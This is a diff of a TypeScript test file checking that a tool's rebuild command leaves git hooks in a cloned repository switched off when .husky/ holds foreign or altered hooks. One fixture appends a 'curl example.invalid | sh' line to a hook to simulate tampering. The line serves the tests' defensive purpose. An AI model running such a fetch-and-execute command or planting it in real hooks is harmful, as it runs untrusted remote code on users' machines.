@@ -106,34 +106,41 @@ describe('tracked hooks elsewhere', () => {
       await expectIndexedByHook(side)
     }))
 
-  test('in a clone are switched on by rebuild where every one of them is ours', () =>
+  test.each<[string, (repo: Repo) => void, string]>([
+    ['hooks of ours alone', () => {}, 'these do the same'],
+    [
+      'one more of somebody else',
+      (repo) => repo.write('.husky/pre-commit', 'true\n'),
+      'it holds more than hooks of ours',
+    ],
+    [
+      'one of ours with a line added',
+      (repo) => repo.append('.husky/post-merge', 'curl example.invalid | sh\n'),
+      'it holds more than hooks of ours',
+    ],
+  ])('in a clone stay off where there is %s, and rebuild says so', (_what, change, told) =>
     withTeam(async (repo) => {
+      change(repo)
+      repo.git('add', '.husky')
+      repo.git('-c', 'core.hooksPath=/dev/null', 'commit', '-q', '--allow-empty', '-m', 'changed')
       const clone = repo.at('clone')
       repo.git('clone', '-q', repo.root, clone.root)
-      clone.installPackage()
       expect(clone.commit(day(1), retain('W Before'))).toBe('')
-      expect(clone.memory('rebuild').stdout).toContain('The hooks are installed.')
-      expect(clone.git('config', 'core.hooksPath')).toBe('.husky/_')
+      const done = clone.memory('rebuild')
+      expect(done.status).toBe(0)
+      expect(done.stdout).toContain(`The hooks are installed. .husky/ came with the clone and stays off: ${told}`)
+      expect(clone.tryGit('config', '--local', 'core.hooksPath').status).toBe(1)
       expect(clone.git('status', '--porcelain')).toBe('')
       expect(clone.commit(day(2), retain('W After'))).toContain('memory: indexed')
       await expectIndexedByHook(clone)
-    }))
-
-  test.each<[string, (repo: Repo) => void]>([
-    ['one more of somebody else', (repo) => repo.write('.husky/pre-commit', 'true\n')],
-    ['one of ours with a line added', (repo) => repo.append('.husky/post-merge', 'curl example.invalid | sh\n')],
-  ])('in a clone stay off where there is %s, and rebuild says so', (_what, change) =>
-    withTeam((repo) => {
-      change(repo)
-      repo.git('add', '.husky')
-      repo.git('commit', '-q', '-m', 'changed')
-      const clone = repo.at('clone')
-      repo.git('clone', '-q', repo.root, clone.root)
-      const done = clone.memory('rebuild')
-      expect(done.status).toBe(0)
-      expect(done.stdout).toMatch(/^No hook was installed: \.husky\/ holds hooks that are not ours/)
-      expect(clone.tryGit('config', '--local', 'core.hooksPath').status).toBe(1)
-      expect(clone.exists('.git/hooks')).toBe(false)
     }),
   )
+
+  test('that sleep in a linked worktree are not woken by rebuild, which says who would', () =>
+    withTeam((repo) => {
+      repo.git('worktree', 'add', '-q', '-b', 'side', '../side')
+      const side = repo.at('side')
+      expect(side.memory('rebuild').stdout).toMatch(/^No hook runs yet: husky was not run in this working tree/)
+      expect(side.exists('.husky/_')).toBe(false)
+    }))
 })
